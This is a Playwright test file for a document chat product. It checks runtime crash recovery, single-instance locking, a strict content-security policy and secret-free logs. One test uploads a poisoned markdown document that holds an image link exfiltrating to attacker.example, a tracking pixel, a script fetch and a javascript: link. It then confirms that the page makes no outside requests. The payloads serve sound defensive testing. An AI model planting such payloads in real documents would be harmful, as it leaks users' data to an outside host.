import { spawn } from 'node:child_process';
import { readdir, readFile } from 'node:fs/promises';
import process from 'node:process';
import { expect, test } from '@playwright/test';
import { findProcess, ownerState, readProduct, takeScreenshot } from './product.ts';

test.use({ storageState: ownerState });

test('a killed runtime costs one answer, and the next try succeeds', async ({ page }) => {
  test.setTimeout(300_000);
  await page.goto('/w/demo/chat');
  await page.getByLabel('Ask a question').fill('What does error code E14 mean and what should I do?');
  await page.keyboard.press('Enter');
  const answer = page.getByRole('article', { name: 'Answer' });
  await expect(answer.getByRole('region', { name: 'Supporting passages' })).toBeVisible();
  process.kill(await findProcess('runtime.ts', readProduct().supervisorPid), 'SIGKILL');
  await expect(answer.getByText('The answer could not be finished')).toBeVisible();
  await takeScreenshot(page, 'runtime-killed');

  // Pages, database and jobs go on; the runtime comes back by itself.
  expect((await page.request.get('/w/demo/sources')).status()).toBe(200);
  await expect.poll(async () => (await page.request.get('/api/health')).status(), { timeout: 60_000 }).toBe(200);
  await answer.getByRole('button', { name: 'Try again' }).click();
  await expect(answer).toHaveAttribute('aria-busy', 'false', { timeout: 120_000 });
  await expect(answer).toContainText(/10 minutes|overload/i);
});

test('a second start on the same data directory is refused and names the first', async () => {
  const { dataDir, supervisorPid } = readProduct();
  const child = spawn(process.execPath, ['scripts/start.ts'], {
    env: { ...process.env, LOREHOUSE_DATA_DIR: dataDir, PORT: '0' },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let output = '';
  child.stdout.on('data', (data: Buffer) => (output += data.toString()));
  child.stderr.on('data', (data: Buffer) => (output += data.toString()));
  const code = await new Promise((resolve) => child.on('exit', resolve));
  expect(code).not.toBe(0);
  expect(output).toContain(`already runs on ${dataDir}`);
  expect(output).toContain(String(supervisorPid));
});

test('a poisoned document makes the page ask nobody for anything', async ({ page }) => {
  test.setTimeout(300_000);
  const foreign: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(readProduct().baseUrl) && !/^(data|blob):/.test(request.url()))
      foreign.push(request.url());
  });
  await page.goto('/admin/acme-heating/documents');
  const poison = [
    '# Valve V-200 notes',
    'The valve V-200 opens at 3.5 bar. ![state](http://attacker.example/steal?q=V-200)',
    '<img src="http://attacker.example/pixel.png"> <script>fetch("http://attacker.example")</script>',
    '[click](javascript:alert(1)) The valve V-200 must be serviced every 14 months.',
  ].join('\n\n');
  await page
    .getByLabel('Choose documents')
    .setInputFiles({ name: 'valve <b>notes</b>.md', mimeType: 'text/markdown', buffer: Buffer.from(poison) });
  await expect(page.getByRole('region', { name: 'Documents' }).getByText('Indexed', { exact: true })).toHaveCount(2, {
    timeout: 120_000,
  });
  await page.goto('/w/acme-heating/chat');
  await page.getByLabel('Ask a question').fill('At which pressure does the valve V-200 open?');
  await page.keyboard.press('Enter');
  const answer = page.getByRole('article', { name: 'Answer' });
  await expect(answer).toHaveAttribute('aria-busy', 'false', { timeout: 120_000 });
  await answer.getByRole('button', { name: /^Open source 1/ }).click();
  await expect(
    page
      .getByRole('region', { name: /^Source 1/ })
      .locator('mark')
      .first(),
  ).toBeVisible();
  await expect(page.locator('main img')).toHaveCount(0);
  expect(foreign).toEqual([]);
});

test('pages carry a strict policy and logs carry no secret', async ({ page }) => {
  const response = await page.goto('/w/demo/chat');
  const policy = response?.headers()['content-security-policy'] ?? '';
  expect(policy).toContain("img-src 'self'");
  expect(policy).toContain("frame-ancestors 'none'");
  expect(policy).not.toContain("'unsafe-eval'");
  const { dataDir } = readProduct();
  const cookies = await page.context().cookies();
  const session = cookies.find((cookie) => cookie.httpOnly)?.value ?? '';
  expect(session.length).toBeGreaterThan(20);
  for (const file of await readdir(`${dataDir}/logs`)) {
    const log = await readFile(`${dataDir}/logs/${file}`, 'utf8');
    expect(log.includes(session.slice(0, 20)), file).toBe(false);
    expect(log.includes('correct horse battery staple'), file).toBe(false);
  }
});
